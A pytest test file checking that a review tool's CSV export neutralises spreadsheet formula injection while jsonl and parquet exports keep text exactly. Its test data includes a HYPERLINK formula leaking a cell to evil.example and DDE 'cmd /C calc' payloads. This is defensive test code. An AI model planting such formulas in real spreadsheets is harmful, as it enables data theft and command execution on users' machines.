"""CSV exports cannot run spreadsheet formulas; jsonl and parquet keep the exact text."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest
from tests.review.conftest import ReviewSetup

from haechi.review.exports import export_results, spreadsheet_safe
from haechi.review.imports import ImportLine, import_lines
from haechi.review.labels import submit_label
from haechi.review.queue import next_item
from haechi.review.results import campaign_results

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A2,"click")'
TEXTS = {
    "id": "-2+3+cmd|' /C calc'!A0",
    "category": "@SUM(1+1)*cmd|' /C calc'!A0",
    "prompt": "+1+1",
    "response": "\t=1+1",
}


@pytest.mark.parametrize(
    ("cell", "safe"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        ("+1+1", "'+1+1"),
        ("-A1", "'-A1"),
        ("@cmd", "'@cmd"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("-3", "-3"),
        ("+1.5", "+1.5"),
        ("-0.25e-3", "-0.25e-3"),
        ("-", "'-"),
        ("a=b", "a=b"),
        ("해치", "해치"),
        ("", ""),
    ],
)
def test_spreadsheet_safe(cell: str, safe: str) -> None:
    assert spreadsheet_safe(cell) == safe


def test_csv_cells_are_neutralised_and_the_other_formats_keep_the_text(
    review: ReviewSetup, tmp_path: Path
) -> None:
    line = ImportLine(**TEXTS, detector_success=True)
    import_lines(review.store, review.campaign, [line], "import")
    who = review.reviewers[0]
    values = {"attack_success": "yes", "severity": "2", "note": HYPERLINK}
    while (item := next_item(review.store, "camp", who)) is not None:
        submit_label(review.store, "camp", item, who, values)
    results = campaign_results(review.store, "camp", review.admin)

    rows = list(csv.DictReader(export_results(results, "csv", tmp_path / "x.csv").open()))
    (row,) = [r for r in rows if r["id"] == "'" + TEXTS["id"]]
    for name, text in TEXTS.items():
        assert row[name] == "'" + text
    assert row["note"] == "'" + HYPERLINK and row["severity"] == "2"
    assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for v in r.values())

    lines = export_results(results, "jsonl", tmp_path / "x.jsonl").read_text("utf-8").splitlines()
    record = next(json.loads(x) for x in lines if json.loads(x)["id"] == TEXTS["id"])
    assert {k: record[k] for k in TEXTS} == TEXTS
    assert record["labels"][0]["values"]["note"] == HYPERLINK

    import pyarrow.parquet as pq

    table = pq.read_table(export_results(results, "parquet", tmp_path / "x.parquet")).to_pylist()
    stored = next(r for r in table if r["id"] == TEXTS["id"])
    assert {k: stored[k] for k in TEXTS} == TEXTS
    assert stored["labels"][0]["values"]["note"] == HYPERLINK
